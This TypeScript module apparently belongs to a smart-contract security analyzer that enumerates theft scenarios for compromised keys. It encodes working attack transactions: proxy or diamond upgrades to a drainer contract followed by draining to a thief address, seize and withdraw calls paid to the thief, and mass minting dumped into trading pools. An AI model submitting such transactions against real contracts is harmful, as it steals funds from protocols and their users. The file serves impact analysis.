import { concatHex, encodeFunctionData, getAddress, parseAbi, size, toHex } from 'viem/utils';
import { encodeSample } from '#analyzer/simulateFunction.ts';
import type { TheftCall } from '#core/stolenKeys/getTheftSubject.ts';
import type { TheftWay } from '#core/stolenKeys/listWays.ts';
import type { Hex } from '#lib/hex.ts';
import type { Stake, TheftContract, TheftStep } from '#model/stolenKeys.ts';
import { drainerCode } from './thiefProbe.ts';

/** Calls of one account in order. */
export interface Trial {
  actor: Hex;
  contract: string;
  steps: TheftStep[];
  /** A token of which more is made. */
  mints: string | undefined;
}

export interface TrialSubject {
  contracts: ReadonlyMap<string, TheftContract>;
  /** Types of a function's arguments; undefined where they are not known. */
  argumentsOf: (call: TheftCall) => Promise<string | undefined>;
  thief: Hex;
  drainer: Hex;
}

const abi = parseAbi([
  'function upgradeTo(address implementation)',
  'function upgradeToAndCall(address implementation, bytes data)',
  'function upgradeAndCall(address proxy, address implementation, bytes data)',
  'function upgrade(address proxy, address implementation)',
  'struct Cut { address facet; uint8 action; bytes4[] selectors; }',
  'function diamondCut(Cut[] cuts, address init, bytes data)',
  'function drain(address[] tokens, address to)',
  'function approve(address spender, uint256 amount)',
  'function transfer(address to, uint256 amount)',
]);
const pairAbi = parseAbi(['function swap(address tokenIn, uint256 amountIn, uint256 minOut)']);
const v2Abi = parseAbi(['function swap(uint256 out0, uint256 out1, address to, bytes data)']);
const nobody: Hex = `0x${'0'.repeat(40)}`;
const drainSelector = encodeFunctionData({ abi, functionName: 'drain', args: [[], nobody] }).slice(
  0,
  10,
) as Hex;
/** Of what a contract holds. */
const mostStakes = 6;
const mostMarkets = 3;
/** So many times what a pool has of a token buys nearly all of the other one. */
const flood = 1_000n;

const lower = (address: string) => address.toLowerCase() as Hex;

/** What creates a contract with this code. */
export const toInitCode = (code: Hex): Hex =>
  concatHex(['0x61', toHex(size(code), { size: 2 }), '0x80600a3d393df3', code]);

interface Act {
  from: Hex;
  to: string;
  data: Hex;
  what: string;
}
const toStep = ({ from, to, data, what }: Act, name: string): TheftStep => ({
  ...{ from: getAddress(from), to: getAddress(to), creates: null, data, what: `${what} on ${name}` },
});

const stakesOf = (contract: TheftContract | undefined): Stake[] =>
  contract && 'stakes' in contract.holds ? contract.holds.stakes : [];

/** Replaces the code by one that hands on all that is there. */
function listUpgrades(
  { power, actor, via }: TheftWay<TheftCall>,
  { contracts, thief, drainer }: TrialSubject,
): Trial[] {
  const contract = contracts.get(power.contract);
  const stakes = stakesOf(contract);
  if (!contract || stakes.length === 0) return [];
  const encode = (functionName: string, args: readonly unknown[]) =>
    encodeFunctionData({ abi, functionName, args } as never);
  const proxy = lower(power.contract);
  const own: [string, Hex][] = [
    ['upgradeToAndCall', encode('upgradeToAndCall', [drainer, '0x'])],
    ['upgradeTo', encode('upgradeTo', [drainer])],
    [
      'diamondCut',
      encode('diamondCut', [[{ facet: drainer, action: 0, selectors: [drainSelector] }], nobody, '0x']),
    ],
  ];
  const byAdmin: [string, Hex][] = [
    ['upgradeAndCall', encode('upgradeAndCall', [proxy, drainer, '0x'])],
    ['upgrade', encode('upgrade', [proxy, drainer])],
  ];
  const sender = via?.actor ?? actor;
  if (sender === undefined) return [];
  const from = lower(sender);
  const upgrades = via
    ? byAdmin.map(([what, data]) => ({ what, data, to: via.contract }))
    : own.flatMap(([what, data]) =>
        data.startsWith(power.selector) ? [{ what, data, to: power.target }] : [],
      );
  const tokens = stakes.flatMap(({ token }) => (token === null ? [] : [lower(token)]));
  const drain = encode('drain', [tokens, thief]);
  return upgrades.map(({ what, data, to }) => ({
    ...{ actor: from, contract: power.contract, mints: undefined },
    steps: [
      {
        ...{ from: getAddress(thief), to: null, creates: getAddress(drainer) },
        data: toInitCode(drainerCode),
        what: 'A contract that hands on what it holds',
      },
      toStep({ from, to, data, what }, contract.name),
      toStep({ from, to: power.contract, data: drain, what: 'drain' }, contract.name),
    ],
  }));
}

interface Filled {
  value: bigint;
  who: Hex;
  first?: Hex;
}

/** Calls a function that takes or seizes, in the thief's favour, with what is there. */
async function listTakings(
  { power, actor }: TheftWay<TheftCall>,
  { contracts, argumentsOf, thief }: TrialSubject,
): Promise<Trial[]> {
  const contract = contracts.get(power.contract);
  if (!contract || actor === undefined) return [];
  const types = await argumentsOf(power);
  if (types === undefined) return [];
  const fillings = stakesOf(contract)
    .slice(0, mostStakes)
    .flatMap(({ token, amount }): Filled[] => {
      const value = BigInt(amount);
      const paid = { value, who: thief };
      return token === null
        ? [paid]
        : [paid, { value, who: thief, first: lower(token) }, { value, who: lower(token), first: thief }];
    });
  // Of a token that can be seized, from whoever has some.
  for (const market of marketsOf(contract)) {
    const held = stakesOf(contracts.get(market)).find(({ token }) => token === power.contract);
    if (held) fillings.push({ value: BigInt(held.amount), who: thief, first: lower(market) });
  }
  const datas = [
    ...new Set(
      fillings.map((one) => encodeSample({ selector: power.selector as Hex, arguments: types }, one)),
    ),
  ];
  return datas.map((data) => ({
    ...{ actor: lower(actor), contract: power.contract, mints: undefined },
    steps: [toStep({ from: lower(actor), to: power.target, data, what: power.function }, contract.name)],
  }));
}

const marketsOf = ({ token }: TheftContract): string[] =>
  token && Array.isArray(token.markets) ? token.markets.slice(0, mostMarkets) : [];

/** Makes tokens, and sells them where they are traded. */
async function listMints(
  { power, actor: given }: TheftWay<TheftCall>,
  { contracts, argumentsOf, thief }: TrialSubject,
): Promise<Trial[]> {
  const contract = contracts.get(power.contract);
  const { token } = contract ?? {};
  if (!contract || !token || 'why' in token.supply || given === undefined) return [];
  const types = await argumentsOf(power);
  if (types === undefined) return [];
  const actor = lower(given);
  const mint = (value: bigint) =>
    toStep(
      {
        ...{ from: actor, to: power.target, what: power.function },
        data: encodeSample({ selector: power.selector as Hex, arguments: types }, { value, who: actor }),
      },
      contract.name,
    );
  const base = { actor, contract: power.contract, mints: power.contract };
  const supply = BigInt(token.supply.amount);
  const sales = marketsOf(contract).flatMap((market) => {
    const stakes = stakesOf(contracts.get(market));
    const held = BigInt(stakes.find((one) => one.token === power.contract)?.amount ?? 0);
    const others = stakes.filter((one) => one.token !== null && one.token !== power.contract);
    if (held === 0n || others.length === 0) return [];
    const amount = held * flood;
    const name = contracts.get(market)?.name ?? market;
    const at = lower(power.contract);
    const act = (to: string, what: string, data: Hex) =>
      toStep({ from: actor, to, what, data }, to === market ? name : contract.name);
    const approve = encodeFunctionData({ abi, functionName: 'approve', args: [lower(market), amount] });
    const transfer = encodeFunctionData({ abi, functionName: 'transfer', args: [lower(market), amount] });
    const most = (BigInt(others[0]?.amount ?? 0) * 99n) / 100n;
    const v2 = (outs: readonly [bigint, bigint]) =>
      encodeFunctionData({ abi: v2Abi, functionName: 'swap', args: [...outs, thief, '0x'] });
    return [
      [
        act(power.contract, 'approve', approve),
        act(
          market,
          'swap',
          encodeFunctionData({ abi: pairAbi, functionName: 'swap', args: [at, amount, 0n] }),
        ),
      ],
      ...[[most, 0n] as const, [0n, most] as const].map((outs) => [
        act(power.contract, 'transfer', transfer),
        act(market, 'swap', v2(outs)),
      ]),
    ].map((steps) => ({ ...base, steps: [mint(amount), ...steps] }));
  });
  return [...sales, { ...base, steps: [mint(supply > 0n ? supply : 10n ** 18n)] }];
}

/** What a thief would try with one way to a power. */
export async function listTrials(way: TheftWay<TheftCall>, subject: TrialSubject): Promise<Trial[]> {
  switch (way.power.class) {
    case 'upgrade':
      return listUpgrades(way, subject);
    case 'withdraw':
    case 'seize':
      return listTakings(way, subject);
    case 'mint':
      return listMints(way, subject);
    default:
      return [];
  }
}
